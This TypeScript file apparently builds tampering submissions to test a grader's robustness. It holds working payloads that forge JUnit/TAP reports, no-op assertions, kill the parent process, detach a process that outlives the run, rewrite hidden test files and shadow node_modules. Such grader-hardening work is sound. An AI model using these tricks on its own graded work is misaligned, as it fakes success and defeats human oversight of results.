/**
 * Tampering submissions for `node` tasks: each is the starter plus one attack, written the way a
 * hostile candidate would write it (plain JavaScript that is also valid TypeScript for tsx).
 * Payloads go at the top of every candidate module, so they run the moment a test imports one.
 */
import type { TamperCase, TamperInput } from './types.ts';
import { fakeJunit, fakeTap } from './forge.ts';

const js = JSON.stringify;

/** Writes a passing JUnit report wherever a grader may read one. */
const forgeReports = (junit: string, reportPath: string | undefined) => `
const __tJunit = ${js(junit)};
const __tForge = () => {
  const paths = new Set(${js(['report.xml', 'junit.xml', 'test-results.xml', ...(reportPath ? [reportPath] : [])])});
  for (const a of [...process.argv, ...process.execArgv]) {
    const m = /^--(?:junitxml|junit-xml|test-reporter-destination|outputFile(?:\\.junit)?)=(.+)$/.exec(a);
    if (m) paths.add(m[1]);
  }
  for (const dir of ['.', '/tmp']) {
    try { for (const f of __tfs.readdirSync(dir)) if (f.endsWith('.xml')) paths.add(dir + '/' + f); } catch {}
  }
  for (const p of paths) { try { __tfs.writeFileSync(p, __tJunit); } catch {} }
};`;

/** Writes text to this process's stdout and to the stdout of every ancestor it can open. */
const writeFds = `
const __tFds = (text) => {
  const pids = ['self'];
  let pid = process.pid;
  for (let i = 0; i < 6; i++) {
    try {
      const stat = __tfs.readFileSync('/proc/' + pid + '/stat', 'utf8');
      pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      if (!pid || pid <= 1) break;
      pids.push(String(pid));
    } catch { break; }
  }
  for (const p of pids) for (const fd of [1, 2]) {
    try { const h = __tfs.openSync('/proc/' + p + '/fd/' + fd, 'a'); __tfs.writeSync(h, text); __tfs.closeSync(h); } catch {}
  }
};`;

/** Replaces every assertion function with a no-op and pushes that into the ESM named exports. */
const assertNoop = `
for (const __ta of [__tassert, __tstrict, __tassert.strict]) {
  for (const k of Object.keys(__ta)) if (typeof __ta[k] === 'function' && k !== 'AssertionError') __ta[k] = () => {};
}
__tmodule.syncBuiltinESMExports();`;

const header = `import * as __tfs from 'node:fs';
import * as __tcp from 'node:child_process';
import * as __tmodule from 'node:module';
import __tassert from 'node:assert';
import __tstrict from 'node:assert/strict';
`;

/** Runs the body once per process even when several modules carry it. */
const once = (id: string, body: string) =>
  `${header}if (!globalThis[${js(`__tamper_${id}`)}]) {\n  globalThis[${js(`__tamper_${id}`)}] = true;\n${body}\n}\n`;

export function nodeCases(input: TamperInput): TamperCase[] {
  const tap = fakeTap(input.names);
  const junit = fakeJunit(input.names);
  const forge = forgeReports(junit, input.reportPath);
  const prepend = (id: string, body: string) => ({ prepend: once(id, body) });
  const cases: TamperCase[] = [
    {
      id: 'exit-at-import',
      title: 'process.exit(0) when a test imports the module',
      ...prepend('exit', 'process.exit(0);'),
    },
    {
      id: 'assert-noop',
      title: 'node:assert and node:assert/strict functions replaced with no-ops at import',
      ...prepend('assert', assertNoop),
    },
    {
      id: 'exit-handler',
      title: "an 'exit' handler that rewrites every JUnit report file and sets exit code 0",
      ...prepend(
        'exit-handler',
        `${forge}\nprocess.on('exit', () => { __tForge(); process.exitCode = 0; });`,
      ),
    },
    {
      id: 'fake-stdout',
      title: 'fake TAP (ok lines with the hidden test names, plan, # pass) and fake JUnit on stdout',
      ...prepend('stdout', `process.stdout.write(${js(tap)});\nprocess.stdout.write(${js(junit)});`),
    },
    {
      id: 'inherited-fd',
      title: "fake TAP written to /proc/self/fd/1 and the parent processes' stdout, then exit 0",
      ...prepend('fd', `${writeFds}\n__tFds(${js(tap)});\nprocess.exit(0);`),
    },
    {
      id: 'kill-parent',
      title: "fake TAP to the parent's stdout and a forged report, then process.kill(process.ppid)",
      ...prepend(
        'kill',
        `${writeFds}\n${forge}\n__tForge();\n__tFds(${js(tap)});\ntry { process.kill(process.ppid, 'SIGKILL'); } catch {}\nprocess.exit(0);`,
      ),
    },
    {
      id: 'detached-rewriter',
      title: 'a detached process that outlives the run and keeps rewriting report files',
      ...prepend(
        'detached',
        `const __tCode = ${js(
          `const fs = require('node:fs'); const junit = ${js(junit)}; const paths = ${js(['report.xml', 'junit.xml', ...(input.reportPath ? [input.reportPath] : [])])};` +
            `const end = Date.now() + 120000; const tick = () => { for (const p of paths) { try { if (fs.readFileSync(p, 'utf8') !== junit) fs.writeFileSync(p, junit); } catch { try { fs.writeFileSync(p, junit); } catch {} } } if (Date.now() < end) setTimeout(tick, 2); }; tick();`,
        )};
try { __tcp.spawn(process.execPath, ['-e', __tCode], { detached: true, stdio: 'ignore', cwd: process.cwd() }).unref(); } catch {}`,
      ),
    },
    {
      id: 'hidden-test-reader',
      title: 'walks / and /tmp for the hidden test files, neuters their assertions and re-runs them',
      ...prepend(
        'reader',
        `if (!process.env.__TAMPER_RERUN) {
  const own = new Set(${js(input.ownFiles)});
  const found = [];
  const walk = (dir, depth) => {
    if (depth > 6 || found.length > 50) return;
    let entries = [];
    try { entries = __tfs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
    for (const e of entries) {
      const p = (dir === '/' ? '' : dir) + '/' + e.name;
      if (['/proc', '/sys', '/dev', '/usr', '/node_modules', '/lib', '/bin', '/sbin', '/etc', '/var'].includes(p) || e.name === 'node_modules') continue;
      if (e.isDirectory()) walk(p, depth + 1);
      else if (/\\.test\\.[cm]?[jt]s$|^test_.*\\.py$/.test(e.name) && !own.has(p.replace(/^\\/workspace\\//, ''))) found.push(p);
    }
  };
  walk('/', 0);
  walk('/tmp', 0);
  const noop = 'data:text/javascript,' + encodeURIComponent('const f = () => {}; const a = new Proxy(f, { get: () => f, apply: () => {} }); export default a; export const ok = f, equal = f, deepEqual = f, strictEqual = f, deepStrictEqual = f, notEqual = f, notStrictEqual = f, throws = f, rejects = async () => {}, doesNotThrow = f, match = f, fail = f;');
  for (const p of found) {
    process.stderr.write('tamper: read hidden test ' + p + '\\n');
    try {
      const text = __tfs.readFileSync(p, 'utf8').replace(/from\\s+['"]node:assert(?:\\/strict)?['"]/g, 'from ' + JSON.stringify(noop));
      __tfs.writeFileSync(p, text);
    } catch {}
  }
  if (found.length) {
    const r = __tcp.spawnSync(process.execPath, [...process.execArgv, ...process.argv.slice(1)], { stdio: 'inherit', env: { ...process.env, __TAMPER_RERUN: '1' } });
    process.exit(r.status ?? 0);
  }
}`,
      ),
    },
    {
      id: 'extra-tests',
      title: 'own test files named like tests, with passing tests under the hidden test names',
      prepend: '',
      extra: [
        {
          path: 'zz-tamper.test.mjs',
          content: `import { test } from 'node:test';\nfor (const name of ${js(input.names.map((n) => n.name))}) test(name, () => {});\n`,
        },
      ],
    },
    {
      id: 'runtime-config',
      title: '.npmrc node-options, package.json "imports" and node_modules/ shadows of preloaded packages',
      prepend: '',
      extra: [
        { path: '.npmrc', content: 'node-options=--import ./zz-tamper-hook.mjs\n' },
        { path: 'zz-tamper-hook.mjs', content: once('hook', assertNoop) },
        ...input.packageJson((pkg) => ({
          ...pkg,
          imports: { ...(pkg.imports as object), '#tamper': './zz-tamper-hook.mjs' },
        })),
        ...input.preloads.flatMap((name) => shadowPackage(name, assertNoop)),
      ],
    },
  ];
  return cases;
}

/**
 * A node_modules/<name> that runs the attack and then loads the real package found further up
 * (the image's /node_modules), so the grade command still works.
 */
function shadowPackage(name: string, body: string): Array<{ path: string; content: string }> {
  const loader = `${header}${body}
const __tReal = (() => {
  const parts = process.cwd().split('/').filter(Boolean);
  for (let i = parts.length - 1; i >= 0; i--) {
    const root = '/' + parts.slice(0, i).map((x) => x + '/').join('') + 'node_modules/' + ${js(name)};
    try {
      const pkg = JSON.parse(__tfs.readFileSync(root + '/package.json', 'utf8'));
      const pick = (e) => (typeof e === 'string' ? e : e && (pick(e.import) || pick(e.default) || pick(e.node)));
      return root + '/' + (pick(pkg.exports?.['.'] ?? pkg.exports) || pkg.module || pkg.main || 'index.js').replace(/^\\.\\//, '');
    } catch {}
  }
  return undefined;
})();
if (__tReal) await import(__tReal);
`;
  return [
    {
      path: `node_modules/${name}/package.json`,
      content: js({ name, type: 'module', exports: { '.': './index.mjs', './*': './index.mjs' } }),
    },
    { path: `node_modules/${name}/index.mjs`, content: loader },
  ];
}
